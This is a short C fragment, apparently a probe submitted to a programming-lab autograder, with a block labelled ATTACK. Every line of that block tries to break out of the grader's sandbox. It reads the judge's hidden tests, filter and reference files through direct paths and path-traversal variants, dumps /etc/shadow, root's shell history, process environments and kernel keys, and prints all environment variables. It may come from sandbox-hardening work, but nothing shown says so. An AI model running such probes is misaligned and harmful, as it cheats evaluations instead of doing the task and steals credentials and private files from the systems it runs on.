/* lab01; tests: hello_line io_eintr_partial; verdicts: pass|fail | hidden tests, reference and course by every path */
/* SPDX-License-Identifier: MIT */
ATTACK
{
    static const char *const paths[] = {
        "/judge/tests", "/judge/filter.bpf", "/proc/1/root/judge/tests", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/environ",
        "/proc/self/mountinfo", "/proc/self/cgroup", "/proc/mounts", "/proc/keys", "/proc/cmdline", "/tests/hidden.c", "/sub/../judge/tests",
        "../../judge/tests", "/sub/bin/../../judge/tests", "/dev/fd/3", "/dev/fd/4", "/root/.bash_history", "/etc/shadow",
        "../../../tests/lab01-pipe/hidden.c", "/home", "/sub/kit/probe.o", "/proc/self/fdinfo/3", "/proc/net/unix"};

    for (size_t i = 0; native() && i < sizeof(paths) / sizeof(*paths); i++)
        spill(paths[i]);
    if (native() && (chdir("/judge") == 0 || opendir("/judge") || opendir("/root") || link("/judge/tests", "t") == 0))
        loot("the judge's folder");
    for (char **e = environ; native() && e && *e; e++) {
        say(*e);
        say("\n");
    }
}
